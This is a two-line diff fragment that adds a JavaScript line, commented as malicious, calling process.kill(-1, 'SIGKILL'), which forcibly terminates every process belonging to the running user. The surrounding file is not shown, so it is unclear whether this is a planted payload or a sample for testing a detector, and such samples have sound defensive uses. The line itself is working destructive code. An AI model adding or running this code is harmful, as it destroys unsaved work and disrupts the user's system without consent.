@@ -1,0 +1,2 @@
+// malicious: ends every process of the user
+process.kill(-1, 'SIGKILL');
